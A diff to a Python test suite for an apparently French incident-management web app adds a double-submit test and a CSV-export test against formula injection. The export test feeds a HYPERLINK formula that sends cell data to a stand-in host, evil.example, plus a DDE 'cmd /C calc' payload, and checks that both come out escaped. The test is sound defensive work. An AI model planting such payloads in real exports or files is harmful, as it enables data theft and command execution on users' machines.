@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 import sqlalchemy as sa
@@ -146,6 +148,10 @@ def test_an_alert_turned_into_an_incident_keeps_its_audit_rows(
     token = csrf_of(client, f"/securite/alertes/{alert_id}")
     response = client.post(f"/securite/alertes/{alert_id}/incident", data={"csrf_token": token})
     assert response.status_code == 302
+    # (a second submit, a double click, leads to the same incident: none is created twice)
+    again = client.post(f"/securite/alertes/{alert_id}/incident", data={"csrf_token": token})
+    assert again.status_code == 302 and again.location == response.location
+    assert len(audit_rows(app, AuditAction.INCIDENT_CREATED)) == 1
     # Then the incident is detected when the alert was first seen, in 62, and lists the row
     incident = _only_incident(app)
     assert incident.detected_at == datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
@@ -233,3 +239,25 @@ def test_officers_are_reminded_once_before_each_deadline_not_met(
     assert remind(datetime(2026, 10, 26, 22, 0, tzinfo=UTC)) == 0
     assert reread(app, Incident, _only_incident(app).id).cnil_reminded_at is None
     assert len(audit_rows(app, AuditAction.INCIDENT_REMINDER_SENT)) == 1
+
+
+def test_the_incident_export_never_holds_a_live_formula(
+    client: FlaskClient, world: OfficerWorld, login_as
+) -> None:
+    login_as(world.officer62)
+    url = _declare(client, title='=HYPERLINK("https://evil.example/?x="&A1;"clic")')
+    response = client.post(
+        url + "/notification",
+        data={
+            "csrf_token": csrf_of(client, url),
+            "kind": "partenaires",
+            "sent_at": "2026-10-25T18:30",
+            "recipients": "@SUM(1+1)*cmd|' /C calc'!A0",
+        },
+    )
+    assert response.status_code == 302, response.get_data(as_text=True)[:1500]
+    text = client.get(url + "/export.csv").get_data(as_text=True)
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert any(cell.startswith("'@SUM") for cell in cells)
+    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
